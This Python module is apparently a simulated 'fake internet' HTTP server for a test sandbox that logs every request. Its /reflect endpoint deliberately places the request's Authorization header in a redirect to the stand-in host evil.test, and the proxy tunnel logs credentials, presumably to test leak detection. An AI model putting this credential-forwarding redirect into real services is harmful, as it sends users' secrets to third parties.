# SPDX-License-Identifier: Apache-2.0
"""HTTP of the fake internet: one handler for every host, over plain TCP and TLS. Each request is logged."""

import asyncio
import base64
import contextlib
import hashlib
import json
import os
import urllib.parse

MOST_HEAD = 2 << 20
CHUNK = bytes(64 << 10)
PROXY_PORTS = (3128, 3129)  # the second one speaks TLS
WEBSOCKET = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


async def copy(source, target):
    with contextlib.suppress(ConnectionError):
        while data := await source.read(64 << 10):
            target.write(data)
            await target.drain()
    target.close()


async def splice(reader, writer, inner_reader, inner_writer):
    """Copies both ways until both ends are closed."""
    await asyncio.gather(copy(reader, inner_writer), copy(inner_reader, writer))


class Head:
    def __init__(self, raw):
        lines = raw.decode("latin-1").split("\r\n")
        self.method, self.target, self.version = (lines[0].split(" ") + ["", "", ""])[:3]
        self.headers = [tuple(part.strip() for part in line.split(":", 1)) for line in lines[1:] if ":" in line]
        origin = self.target if self.target.startswith("/") else "/" + self.target.partition("://")[2].partition("/")[2]
        self.path, _, query = origin.partition("?")
        self.query = dict(urllib.parse.parse_qsl(query))

    def get(self, name, default=""):
        return next((value for each, value in self.headers if each.lower() == name), default)


class Web:
    """`files`: a directory with packages and repositories, served below /files/ and to git. `zone`: the names of the hosts to
    which a company's proxy tunnels."""

    def __init__(self, files, zone, log):
        self._files, self._zone, self._log = files, zone, log

    async def serve(self, reader, writer, **where):
        """Requests of one connection until either side ends it. `where`: fields of each event."""
        try:
            while True:
                head = Head((await reader.readuntil(b"\r\n\r\n"))[:-4])
                body = await self._body(head, reader, where)
                self._log(kind="http", method=head.method, host=head.get("host"), path=head.path, target=head.target,
                          headers=head.headers, body=body if isinstance(body, int) else len(body), **where)
                if head.method == "CONNECT" and where["port"] in PROXY_PORTS:
                    return await self._tunnel(head, reader, writer, where)
                if head.get("upgrade").lower() == "websocket":
                    return await self._websocket(head, reader, writer)
                if not await self._respond(head, body, writer, where):
                    return None
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, ConnectionError, ValueError, OSError):
            return None
        finally:
            writer.close()

    async def _body(self, head, reader, where):
        """→ the body; of an upload, the number of its bytes."""
        if head.get("transfer-encoding").lower() == "chunked":
            whole = b""
            while True:
                size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
                whole += (await reader.readexactly(size + 2))[:-2]
                if size == 0:
                    return whole
        length = int(head.get("content-length", "0") or 0)
        if head.path != "/upload":
            return await reader.readexactly(min(length, MOST_HEAD))
        seen = 0
        while seen < length:
            part = await reader.read(min(len(CHUNK), length - seen))
            if not part:
                self._log(kind="upload", bytes=seen, whole=False, **where)
                raise ConnectionError("cut")
            seen += len(part)
        self._log(kind="upload", bytes=seen, whole=True, **where)
        return seen

    async def _respond(self, head, body, writer, where):
        """→ whether the connection stays open."""
        name = head.path.split("/")[1]
        if name == "stream":
            return await self._stream(writer)
        answer = getattr(self, f"_{name}", None) if name in ("echo", "redirect", "bytes", "upload", "reflect") else None
        if answer is None:
            answer = self._git if head.path.startswith("/git/") else self._file if name in ("files", "simple", "npm") else self._hello
        status, headers, content = await answer(head, body, where)
        lines = [f"HTTP/1.1 {status}", f"Content-Length: {len(content)}", "Server: fake-internet",
                 *(f"{key}: {value}" for key, value in headers.items())]
        writer.write("\r\n".join(lines).encode() + b"\r\n\r\n" + (b"" if head.method == "HEAD" else content))
        await writer.drain()
        return head.get("connection").lower() != "close"

    async def _hello(self, head, body, where):
        return "200 OK", {"Content-Type": "text/plain"}, f"hello from {head.get('host')}\n".encode()

    async def _echo(self, head, body, where):
        told = {"method": head.method, "target": head.target, "headers": head.headers, **where,
                "body": body.decode("latin-1")}
        return "200 OK", {"Content-Type": "application/json"}, json.dumps(told).encode()

    async def _redirect(self, head, body, where):
        return "302 Found", {"Location": head.query["to"]}, b""

    async def _bytes(self, head, body, where):
        return "200 OK", {}, bytes(int(head.query["n"]))

    async def _upload(self, head, body, where):
        return "200 OK", {}, json.dumps({"received": body}).encode()

    async def _reflect(self, head, body, where):
        """The request's headers, as an answer that repeats a secret would have them: /reflect?as=base64. With in=head, its
        credentials are in the head of a redirect to an evil host."""
        if head.query.get("in") == "head":
            told = head.get("authorization")
            return "302 Found", {"Location": "https://evil.test/?k=" + urllib.parse.quote(told, safe=""), "X-Echo": told}, b""
        plain = "\n".join(f"{key}: {value}" for key, value in head.headers).encode()
        how = {"base64": base64.b64encode, "hex": lambda text: text.hex().encode(),
               "url": lambda text: urllib.parse.quote_from_bytes(text, safe="").encode()}
        return "200 OK", {}, how.get(head.query.get("as"), bytes)(plain)

    async def _file(self, head, body, where):
        path = os.path.normpath(os.path.join(self._files, urllib.parse.unquote(head.path).lstrip("/")))
        if os.path.isdir(path):
            path = os.path.join(path, "index")
        if not path.startswith(self._files + "/") or not os.path.isfile(path):
            return "404 Not Found", {}, b"no such file\n"
        kind = "application/json" if "/npm/" in path and not path.endswith(".tgz") else \
            "text/html" if path.endswith("/index") else "application/octet-stream"
        with open(path, "rb") as file:
            return "200 OK", {"Content-Type": kind}, file.read()

    async def _git(self, head, body, where):
        """git-http-backend(1), below /git/."""
        environment = {
            "PATH": "/usr/bin:/bin", "GIT_PROJECT_ROOT": self._files, "GIT_HTTP_EXPORT_ALL": "1", "HOME": self._files,
            "PATH_INFO": head.path, "QUERY_STRING": urllib.parse.urlsplit(head.target).query, "REMOTE_USER": "",
            "REQUEST_METHOD": head.method, "CONTENT_TYPE": head.get("content-type"), "CONTENT_LENGTH": str(len(body)),
            "HTTP_GIT_PROTOCOL": head.get("git-protocol"), "GIT_CONFIG_COUNT": "1",
            "HTTP_CONTENT_ENCODING": head.get("content-encoding"), "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*"}
        process = await asyncio.create_subprocess_exec(
            "/usr/lib/git-core/git-http-backend", env=environment, stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL)
        whole, _ = await process.communicate(body)
        top, _, content = whole.partition(b"\r\n\r\n")
        headers = dict(line.split(": ", 1) for line in top.decode().split("\r\n") if ": " in line)
        return headers.pop("Status", "200 OK"), headers, content

    async def _stream(self, writer):
        """A chunk each 50 ms, without an end."""
        writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            writer.write(b"5\r\ntick\n\r\n")
            await writer.drain()
            await asyncio.sleep(0.05)

    async def _tunnel(self, head, reader, writer, where):
        """A company's proxy: CONNECT to a name of the zone, for clients with credentials."""
        host, _, port = head.target.rpartition(":")
        self._log(kind="connect", target=head.target, credentials=head.get("proxy-authorization"), **where)
        found = [data for kind, data in self._zone.records(host.lower()) or [("A", host)] if kind == "A"]
        if not head.get("proxy-authorization"):
            writer.write(b"HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n")
            return await writer.drain()
        inner_reader, inner_writer = await asyncio.open_connection(found[0], int(port))
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        return await splice(reader, writer, inner_reader, inner_writer)

    async def _websocket(self, head, reader, writer):
        """Sends each frame of the client back (RFC 6455). Frames of less than 126 bytes."""
        key = base64.b64encode(hashlib.sha1(head.get("sec-websocket-key").encode() + WEBSOCKET).digest()).decode()
        writer.write(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                      f"Sec-WebSocket-Accept: {key}\r\n\r\n").encode())
        while True:
            first, length = await reader.readexactly(2)
            mask = await reader.readexactly(4)
            data = bytes(byte ^ mask[n % 4] for n, byte in enumerate(await reader.readexactly(length & 0x7F)))
            writer.write(bytes([first, len(data)]) + data)
            await writer.drain()
            if first & 0x0F == 8:
                return
